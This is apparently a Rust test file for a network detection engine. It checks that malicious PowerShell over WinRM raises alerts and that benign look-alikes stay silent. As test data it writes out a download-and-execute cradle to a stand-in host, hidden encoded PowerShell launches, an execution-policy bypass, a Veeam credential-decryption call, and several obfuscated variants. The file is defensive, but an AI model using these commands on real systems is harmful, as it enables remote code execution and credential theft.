//! Attacks through WinRM, each beside what looks most like it.

use backstop_protocols::testing::Script;
use backstop_testkit::winrm::{
    CMD, POWERSHELL, SHELL, argument, command, command_response, create_pipeline, envelope, fragment, message, pipeline_command,
    pipeline_part, post, post_as, response, selector, send, wmi_class,
};
use backstop_types::{Direction, Value};
use data_encoding::BASE64;

use crate::testing::{Flow, object, text};
use crate::{Finding, Outcome};

const C: Direction = Direction::ToServer;
const S: Direction = Direction::ToClient;
const CREATE_PIPELINE: u32 = 0x0002_1006;
const PIPELINE_INPUT: u32 = 0x0004_1002;
const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')";

fn winrm() -> Flow {
    let mut flow = Flow::default();
    flow.server.port = 5_985;
    flow
}

/// The same from a listed host.
fn listed() -> Flow {
    let mut flow = winrm();
    flow.config.known_clients = vec!["10.20.30.77/32".parse().unwrap()];
    flow
}

fn xml(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

fn encoded(script: &str) -> String {
    BASE64.encode(&script.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
}

fn line(text: &str) -> String {
    command(&format!("<rsp:Command>{}</rsp:Command>", xml(text)))
}

fn pipeline(parts: &str) -> String {
    pipeline_command(&fragment(1, 0, 3, &message(CREATE_PIPELINE, &create_pipeline(parts))))
}

fn script(text: &str) -> String {
    pipeline(&pipeline_part(&xml(text), true, ""))
}

fn input(text: &str) -> String {
    let body = format!(
        "<rsp:Send><rsp:Stream Name=\"stdin\" CommandId=\"C0\">{}</rsp:Stream></rsp:Send>",
        BASE64.encode(text.as_bytes())
    );
    envelope(&format!("{SHELL}/Send"), CMD, &selector("S0"), &body)
}

fn process(line: &str) -> String {
    let uri = &wmi_class("Win32_Process");
    let body = format!("<p:Create_INPUT xmlns:p=\"u\"><p:CommandLine>{}</p:CommandLine></p:Create_INPUT>", xml(line));
    envelope(&format!("{uri}/Create"), uri, "", &body)
}

fn started() -> Vec<u8> {
    command_response("C0")
}

fn ok() -> Vec<u8> {
    response("200", &envelope("r", "", "", "<rsp:SendResponse/>"))
}

/// Runs a conversation to its end.
fn run(flow: &mut Flow, turns: &Script) -> Vec<Finding> {
    flow.replay_script(turns, 65_536);
    flow.take()
}

/// One request that is answered.
fn one(flow: &mut Flow, request: &str, answer: Vec<u8>) -> Vec<Finding> {
    run(flow, &vec![(C, post("", request)), (S, answer)])
}

fn told(findings: &[Finding]) -> Alerts {
    let severity = |finding: &Finding| finding.severity.unwrap_or(finding.meta.severity());
    findings.iter().filter(|finding| !finding.update).map(|finding| (finding.meta.sid(), severity(finding))).collect()
}

/// Sid and severity of each alert.
type Alerts = Vec<(u64, u8)>;

const NOTHING: [(u64, u8); 0] = [];

#[test]
fn what_runs_and_its_look_alikes_from_any_host() {
    let hidden = format!("powershell.exe -NonI -NoP -Exec Bypass -Enc {}", encoded("Write-Output 'inert'; whoami"));
    let sealed = format!("powershell.exe -NoP -NonI -W Hidden -Enc {}", encoded(CRADLE));
    let both = |name: &str, value: &str| {
        pipeline(&pipeline_part(name, false, &(argument("-Command", "<Nil N=\"V\"/>") + &argument("", value))))
    };
    // What runs, and what is told of it; then what looks like it.
    let pairs: [(String, Alerts, String, Alerts); 9] = [
        (
            line(&hidden),
            vec![(9_404_006, 1), (9_403_004, 2)],
            line("powershell.exe -File C:\\jobs\\report.ps1"),
            vec![(9_404_006, 2)],
        ),
        (line(&sealed), vec![(9_404_006, 1), (9_403_003, 1), (9_403_004, 2)], line("ipconfig /all"), vec![(9_404_006, 2)]),
        (script(CRADLE), vec![(9_404_006, 1), (9_403_003, 1)], script(&format!("# {CRADLE}\nGet-Date")), vec![(9_404_006, 2)]),
        (
            both("Invoke-Expression", &format!("<S N=\"V\">{}</S>", xml(CRADLE))),
            vec![(9_404_006, 1), (9_403_003, 1)],
            both("Write-Output", &format!("<S N=\"V\">{}</S>", xml(CRADLE))),
            vec![(9_404_006, 2)],
        ),
        (
            script("I_x0045_X (New-Object Net.WebClient).Downl_x006F_adString(_x0027_http://203.0.113.7/a_x0027_)"),
            vec![(9_404_006, 1), (9_403_003, 1)],
            script("(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/a', 'C:\\a')"),
            vec![(9_404_006, 2)],
        ),
        (input(&format!("powershell -c \"{CRADLE}\"\r\n")), vec![(9_404_006, 1), (9_403_003, 1)], input("dir\r\n"), vec![]),
        (
            process("cmd.exe /c powershell -noni -nop -exe bypass -f \\\\vbr01\\ADMIN$\\temp\\nFcv5ke38cnE.ps1"),
            vec![(9_404_006, 1), (9_403_005, 1)],
            process("C:\\agent\\agent.exe --once"),
            vec![(9_404_006, 2)],
        ),
        (
            script("[Veeam.Backup.Common.ProtectedStorage]::GetLocalString($x)"),
            vec![(9_404_006, 1), (9_403_006, 1)],
            script("Get-VBRJob | Select Name"),
            vec![(9_404_006, 2)],
        ),
        (
            send(&fragment(1, 0, 3, &message(PIPELINE_INPUT, &format!("<S>{}</S>", xml(CRADLE))))),
            vec![(9_404_006, 1), (9_403_003, 1)],
            send(&fragment(1, 0, 3, &message(PIPELINE_INPUT, "<S>Running</S>"))),
            vec![],
        ),
    ];
    for (attack, expected, benign, quiet) in pairs {
        let answer = if attack.contains("/Send") || attack.contains("Win32_Process") { ok() } else { started() };
        let found = one(&mut winrm(), &attack, answer.clone());
        assert_eq!(told(&found), expected, "{attack}");
        for finding in &found {
            assert!(finding.context.get("http").is_some() && finding.context.get("winrm").is_some(), "{attack}");
        }
        // Whoever is listed is told of what content says, and of nothing else.
        let by_content = expected.iter().any(|(sid, _)| *sid > 9_403_000 && *sid < 9_404_000 && *sid != 9_403_004);
        let listed_found = told(&one(&mut listed(), &attack, answer.clone()));
        assert_eq!(listed_found, if by_content { expected } else { Vec::new() }, "{attack}");
        assert_eq!(told(&one(&mut winrm(), &benign, answer.clone())), quiet, "{benign}");
        assert_eq!(told(&one(&mut listed(), &benign, answer)), NOTHING, "{benign}");
    }
}

#[test]
fn what_monitoring_and_management_do_is_silent() {
    let wmi = &wmi_class("Win32_Service");
    let enumerate =
        envelope("http://schemas.xmlsoap.org/ws/2004/09/enumeration/Enumerate", wmi, "", "<n:Enumerate xmlns:n=\"n\"/>");
    let get = envelope("http://schemas.xmlsoap.org/ws/2004/09/transfer/Get", wmi, "", "");
    let identify = "<s:Envelope xmlns:s=\"e\" xmlns:i=\"http://schemas.dmtf.org/wbem/wsman/identity/1/wsmanidentity.xsd\"><s:Header/>\
                    <s:Body><i:Identify/></s:Body></s:Envelope>";
    let subscribe = envelope(
        "http://schemas.xmlsoap.org/ws/2004/08/eventing/Subscribe",
        "http://schemas.microsoft.com/wbem/wsman/1/windows/EventLog",
        "",
        "<e:Subscribe xmlns:e=\"e\"/>",
    );
    let shell = envelope("http://schemas.xmlsoap.org/ws/2004/09/transfer/Create", CMD, "", "<rsp:Shell/>");
    for request in [enumerate.as_str(), &get, identify, &subscribe, &shell] {
        assert_eq!(told(&one(&mut winrm(), request, response("200", ""))), NOTHING, "{request}");
    }
    // As Ansible sends a task: its own wrapper, encoded, and the task as input.
    let wrapper = "&chcp.com 65001 > $null\n$text = $input | Out-String\n$parts = $text.Split(@(\"`0`0`0`0\"), 2, [StringSplitOptions]::RemoveEmptyEntries)\n\
                   Set-Variable -Name json_raw -Value $parts[1]\n$wrapper = [ScriptBlock]::Create($parts[0])\n&$wrapper";
    let task = line(&format!(
        "PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand {}",
        encoded(wrapper)
    ));
    let payload =
        "begin {\n$path = 'x'\n}\nend { Get-Service spooler | ConvertTo-Json }\0\0\0\0{\"module_args\": {\"name\": \"spooler\"}}";
    let turns = vec![(C, post("", &task)), (S, started()), (C, post("", &input(payload))), (S, ok())];
    assert_eq!(told(&run(&mut listed(), &turns)), NOTHING);
    // The server itself.
    let mut own = winrm();
    own.client.addr = own.server.addr;
    assert_eq!(told(&one(&mut own, &line("ipconfig"), started())), NOTHING);
}

#[test]
fn the_response_tells_the_outcome() {
    let fault = envelope("f", "", "", "<s:Fault><s:Code><s:Value>s:Sender</s:Value></s:Code></s:Fault>");
    let returned = |value: u8| {
        let body = format!("<p:Create_OUTPUT xmlns:p=\"u\"><p:ReturnValue>{value}</p:ReturnValue></p:Create_OUTPUT>");
        response("200", &envelope("r", "", "", &body))
    };
    for (request, answer, expected) in [
        (line("ver"), started(), Outcome::Success),
        (line("ver"), response("401", ""), Outcome::Attempt),
        (line("ver"), response("500", &fault), Outcome::Attempt),
        (line("ver"), response("200", ""), Outcome::Unknown),
        (script("Get-Date"), started(), Outcome::Success),
        (process("a.exe"), returned(0), Outcome::Success),
        (process("a.exe"), returned(2), Outcome::Attempt),
    ] {
        let found = one(&mut winrm(), &request, answer);
        assert_eq!((found.len(), found[0].outcome), (1, expected), "{request}");
    }
    let unanswered = run(&mut winrm(), &vec![(C, post("", &line("ver")))]);
    assert_eq!((unanswered.len(), unanswered[0].outcome), (1, Outcome::Unknown));
}

#[test]
fn a_command_that_is_refused_first_is_told_once() {
    let basic = format!("Authorization: Basic {}\r\n", BASE64.encode(b"CORP\\ann:Hunter2-Secret"));
    let found = run(
        &mut winrm(),
        &vec![
            (C, post("", &line("whoami"))),
            (S, response("401", "")),
            (C, post("Authorization: Negotiate TlRMTVNTUAABAAAA\r\n", &line("whoami"))),
            (S, response("401", "")),
            (C, post(&basic, &line("whoami"))),
            (S, started()),
        ],
    );
    assert_eq!((told(&found), found[0].outcome), (vec![(9_404_006, 2)], Outcome::Success));
    let winrm_fields = object(&found[0].context, "winrm");
    assert_eq!((text(&winrm_fields, "user").as_str(), text(&winrm_fields, "domain").as_str()), ("ann", "CORP"));
    assert!(!format!("{:?}", found[0]).contains("Hunter2"));
    // Another command behind a 401 is another cause.
    let turns = vec![(C, post("", &line("whoami"))), (S, response("401", "")), (C, post("", &line("hostname"))), (S, started())];
    let found = run(&mut winrm(), &turns);
    let outcomes: Vec<Outcome> = found.iter().map(|finding| finding.outcome).collect();
    assert_eq!(outcomes, [Outcome::Success, Outcome::Attempt]);
}

#[test]
fn a_command_whose_response_is_late_is_told_in_time_and_brought_up_to_date() {
    let mut flow = winrm();
    let mut driver = flow.start(&[(C, post("", &line("whoami")))]);
    assert!(flow.wants_tick() && flow.take().is_empty());
    flow.wait(900);
    let found = flow.take();
    assert_eq!((told(&found), found[0].outcome), (vec![(9_404_006, 2)], Outcome::Unknown));
    flow.go_on(&mut driver, &[(S, started())]);
    let update = flow.take();
    assert_eq!((update.len(), update[0].update, update[0].outcome), (1, true, Outcome::Success));
    flow.finish(driver);
    assert!(flow.take().is_empty());
}

#[test]
fn the_end_of_a_command_proves_it() {
    let mut flow = winrm();
    // The client names the command itself, as PowerShell does.
    let mut driver = flow.start(&[(C, post("", &script("Get-Date")))]);
    flow.wait(900);
    assert_eq!(flow.take()[0].outcome, Outcome::Unknown);
    let receive = envelope(&format!("{SHELL}/Receive"), POWERSHELL, "", "<rsp:Receive/>");
    let done = format!(
        "<rsp:ReceiveResponse><rsp:CommandState CommandId=\"22222222-2222-2222-2222-222222222222\" State=\"{SHELL}/CommandState/Done\">\
         <rsp:ExitCode>0</rsp:ExitCode></rsp:CommandState></rsp:ReceiveResponse>"
    );
    flow.go_on(
        &mut driver,
        &[(S, response("200", "")), (C, post("", &receive)), (S, response("200", &envelope("r", "", "", &done)))],
    );
    let update = flow.take();
    assert_eq!((update.len(), update[0].update, update[0].outcome), (1, true, Outcome::Success));
}

fn encrypted() -> Script {
    let kind = "multipart/encrypted;protocol=\"application/HTTP-SPNEGO-session-encrypted\";boundary=\"Encrypted Boundary\"";
    let body =
        b"--Encrypted Boundary\r\n\tContent-Type: application/octet-stream\r\n\x10\0\0\0ciphertext--Encrypted Boundary--\r\n";
    let head = format!("HTTP/1.1 200\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n", body.len());
    let turn = [(C, post_as(kind, "", body)), (S, [head.as_bytes(), body].concat())];
    turn.iter().cycle().take(6).cloned().collect()
}

#[test]
fn an_encrypted_session_with_a_backup_server_is_suspected_once() {
    let to_server = |mut flow: Flow| {
        flow.config.backup_servers = vec!["10.20.30.10/32".parse().unwrap()];
        flow.replay_script(&encrypted(), 65_536);
        flow
    };
    let mut flow = to_server(winrm());
    let found = flow.out.findings.clone();
    assert_eq!(told(&found), [(9_404_006, 3)]);
    assert!(found[0].suspected && found[0].outcome == Outcome::Success);
    assert_eq!(text(&object(&found[0].context, "winrm"), "encrypted"), "spnego");
    assert_eq!(flow.admitted_sids(), [9_404_006]);
    // A second session of the same pair is the same cause.
    flow.replay_script(&encrypted(), 65_536);
    assert_eq!(flow.admitted_sids(), [9_404_006]);
    assert!(to_server(listed()).admitted_sids().is_empty());
    // Another server than a backup server.
    let mut flow = winrm();
    flow.replay_script(&encrypted(), 65_536);
    assert!(flow.admitted_sids().is_empty());
}

#[test]
fn tls_on_the_port_of_winrm_is_suspected_with_less_confidence() {
    let on = |port: u16| {
        let mut flow = winrm();
        flow.server.port = port;
        flow.replay("tls12_no_sni", 65_536);
        flow.take().into_iter().filter(|finding| finding.meta.sid() == 9_404_006).collect::<Vec<_>>()
    };
    let found = on(5_986);
    assert_eq!((found.len(), found[0].confidence), (1, crate::Confidence::Low));
    assert!(found[0].suspected && found[0].context.get("tls").is_some());
    assert!(on(443).is_empty());
}

#[test]
fn a_polled_command_is_one_cause_and_an_attack_that_is_repeated_is_not() {
    let count = |request: &str| {
        let mut flow = winrm();
        let mut driver = flow.start(&[]);
        for _ in 0..5 {
            flow.go_on(&mut driver, &[(C, post("", request)), (S, started())]);
        }
        flow.finish(driver);
        flow.admitted_sids().iter().filter(|sid| **sid == 9_404_006).count()
    };
    assert_eq!(count(&line("systeminfo")), 1);
    assert_eq!(count(&line(&format!("powershell -c \"{CRADLE}\""))), 5);
}

#[test]
fn the_evidence_is_decoded_and_has_no_secrets() {
    let parts = pipeline_part("New-LocalUser", false, &argument("-Password", "<S N=\"V\">Hunter2-Secret</S>"));
    let found = one(&mut winrm(), &pipeline(&parts), started());
    assert!(!format!("{found:?}").contains("Hunter2"), "{found:?}");
    let found = one(&mut winrm(), &line("net use \\\\h\\s /password:Hunter2-Secret"), started());
    assert!(!format!("{found:?}").contains("Hunter2"), "{found:?}");
    let found = one(&mut winrm(), &script(CRADLE), started());
    let fields = object(&found[0].context, "winrm");
    assert_eq!((text(&fields, "kind").as_str(), text(&fields, "command").as_str()), ("pipeline", CRADLE));
    assert_eq!(fields.get("matches"), Some(&Value::from(vec![Value::from("9403003")])));
    assert_eq!(text(&object(&found[0].context, "http"), "url"), "/wsman");
}

#[test]
fn findings_of_one_connection_are_bounded_and_counted() {
    let mut flow = winrm();
    let mut driver = flow.start(&[]);
    for number in 0..100 {
        flow.go_on(&mut driver, &[(C, post("", &line(&format!("echo {number}")))), (S, started())]);
    }
    flow.finish(driver);
    assert_eq!(flow.alerts(9_404_006).len(), 32);
    let update = object(&flow.updates(9_404_006)[0].context, "winrm");
    assert_eq!(update.get("count_untold"), Some(&Value::Uint(68)));
}

#[test]
fn a_body_of_winrm_is_not_told_as_a_file_too() {
    let mut flow = winrm();
    let request = line(&format!("powershell -c \"{CRADLE}\""));
    flow.file(backstop_protocols::AppProto::Http, C, Some(0), "wsman", request.as_bytes());
    assert!(flow.take().is_empty());
    // A script that only says so in a comment is one.
    let disguised = format!("<# /wbem/wsman/ #> {CRADLE}");
    flow.file(backstop_protocols::AppProto::Http, C, Some(1), "wsman", disguised.as_bytes());
    assert_eq!(told(&flow.take()), [(9_403_003, 1)]);
    // As is a page with a script, in whatever envelope.
    let disguised = format!("<?xml version='1.0'?><a x='/wbem/wsman/'><SCRIPT>\n{CRADLE}\n</SCRIPT></a>");
    flow.file(backstop_protocols::AppProto::Http, S, Some(2), "page.hta", disguised.as_bytes());
    assert_eq!(told(&flow.take()), [(9_403_003, 1)]);
}

#[test]
fn harmless_commands_in_any_number_blind_nobody() {
    let mut flow = winrm();
    let mut driver = flow.start(&[]);
    for number in 0..100 {
        flow.go_on(&mut driver, &[(C, post("", &line(&format!("echo {number}")))), (S, started())]);
    }
    flow.go_on(&mut driver, &[(C, post("", &script(CRADLE))), (S, started())]);
    flow.finish(driver);
    let severe: Vec<u64> = flow.alerts(9_404_006).iter().filter(|finding| finding.severity == Some(1)).map(|_| 1).collect();
    assert_eq!((flow.alerts(9_404_006).len(), severe.len(), flow.alerts(9_403_003).len()), (33, 1, 1));
}

#[test]
fn what_is_divided_disguised_or_compressed_is_looked_at() {
    let evil = message(CREATE_PIPELINE, &create_pipeline(&pipeline_part(&xml(CRADLE), true, "")));
    let (head, tail) = evil.split_at(evil.len() - 300);
    let decoy = message(CREATE_PIPELINE, &create_pipeline(&pipeline_part("Get-Date", true, "")));
    let part = |text: &str| {
        let stream = BASE64.encode(text.as_bytes());
        let body = format!("<rsp:Send><rsp:Stream Name=\"stdin\" CommandId=\"C0\">{stream}</rsp:Stream></rsp:Send>");
        envelope(&format!("{SHELL}/Send"), CMD, &selector("S0"), &body)
    };
    let (first, last) = CRADLE.split_at(30);
    let packed: Vec<u8> = CRADLE
        .as_bytes()
        .chunks(40)
        .flat_map(|block| {
            let len = (block.len() as u16 - 1).to_le_bytes();
            [&len[..], &len, block].concat()
        })
        .collect();
    let blocks = part("").replace("C0\">", &format!("C0\">{}", BASE64.encode(&packed)));
    let opening = envelope(
        "http://schemas.xmlsoap.org/ws/2004/09/transfer/Create",
        POWERSHELL,
        "",
        &format!("<rsp:Shell><creationXml>{}</creationXml></rsp:Shell>", BASE64.encode(&fragment(1, 0, 3, &evil))),
    );
    let line_of = |inner: &str| command(inner);
    let parts = [
        pipeline_part("Get-Date", false, ""),
        pipeline_part("Invoke-Expression", false, &argument("-Command", &format!("<S N=\"V\">{}</S>", xml(CRADLE)))),
    ];
    for requests in [
        vec![pipeline_command(&fragment(1, 0, 1, head)), send(&fragment(1, 1, 2, tail))],
        vec![pipeline_command(&[fragment(1, 0, 1, &decoy), fragment(1, 0, 1, head), fragment(1, 1, 2, tail)].concat())],
        vec![pipeline_command(&fragment(1, 0, 3, &evil)[..50]), send(&fragment(1, 0, 3, &evil)[50..])],
        vec![part(&format!("powershell -\r\n{first}")), part(last)],
        vec![blocks],
        vec![opening],
        vec![pipeline(&parts.concat())],
        vec![line_of(&format!(
            "<rsp:Command>power<!-- -->shell</rsp:Command><rsp:Arguments>-c</rsp:Arguments><rsp:Arguments>&#34;{}&#34;</rsp:Arguments>",
            xml(CRADLE)
        ))],
        vec![line_of(&format!(
            "<rsp:Command>cmd</rsp:Command><rsp:Arguments>/c</rsp:Arguments><rsp:Arguments>powershell</rsp:Arguments>\
             <rsp:Arguments>-W</rsp:Arguments><rsp:Arguments>Hidden</rsp:Arguments><rsp:Arguments>-e</rsp:Arguments><rsp:Arguments>{}</rsp:Arguments>",
            encoded(CRADLE)
        ))],
    ] {
        let turns: Script = requests.iter().flat_map(|request| [(C, post("", request)), (S, started())]).collect();
        let found = told(&run(&mut winrm(), &turns));
        assert!(found.contains(&(9_404_006, 1)) && found.contains(&(9_403_003, 1)), "{found:?} {requests:?}");
    }
}

#[test]
fn monitoring_through_wmi_is_silent_and_its_methods_are_not() {
    let xfer = "http://schemas.xmlsoap.org/ws/2004/09";
    let quiet = [
        envelope(&format!("{xfer}/transfer/Get"), &wmi_class("Win32_OperatingSystem"), "", ""),
        envelope(
            &format!("{xfer}/enumeration/Enumerate"),
            &wmi_class("*"),
            "",
            "<n:Enumerate xmlns:n=\"n\"><w:Filter Dialect=\"http://schemas.microsoft.com/wbem/wsman/1/WQL\">select CommandLine from \
             Win32_Process where Name='powershell.exe'</w:Filter></n:Enumerate>",
        ),
        envelope(
            &format!("{xfer}/enumeration/Pull"),
            &wmi_class("*"),
            "",
            "<n:Pull xmlns:n=\"n\"><n:EnumerationContext>x</n:EnumerationContext></n:Pull>",
        ),
        envelope(&format!("{xfer}/enumeration/Release"), &wmi_class("*"), "", "<n:Release xmlns:n=\"n\"/>"),
        envelope(
            &format!("{}/GetOwner", wmi_class("Win32_Process")),
            &wmi_class("Win32_Process"),
            "",
            "<p:GetOwner_INPUT xmlns:p=\"u\"/>",
        ),
    ];
    for request in quiet {
        assert_eq!(told(&one(&mut winrm(), &request, response("200", ""))), NOTHING, "{request}");
    }
    for (name, whose) in [("commandline", "x:"), ("CommandLine", ""), ("COMMANDLINE", "p:")] {
        let action = process("calc.exe").replace("p:CommandLine", &format!("{whose}{name}"));
        assert_eq!(told(&one(&mut winrm(), &action, ok())), [(9_404_006, 2)], "{action}");
        assert_eq!(told(&one(&mut listed(), &action, ok())), NOTHING);
    }
}

#[test]
fn a_line_that_is_sent_sign_by_sign_is_one_alert() {
    let mut flow = winrm();
    let mut driver = flow.start(&[]);
    for sign in format!("powershell -c \"{CRADLE}\"\r\nexit\r\n").chars() {
        flow.go_on(&mut driver, &[(C, post("", &input(&sign.to_string()))), (S, ok())]);
    }
    flow.finish(driver);
    let admitted = flow.admitted_sids();
    assert_eq!((admitted.iter().filter(|sid| **sid == 9_404_006).count(), admitted.contains(&9_403_003)), (1, true));
}
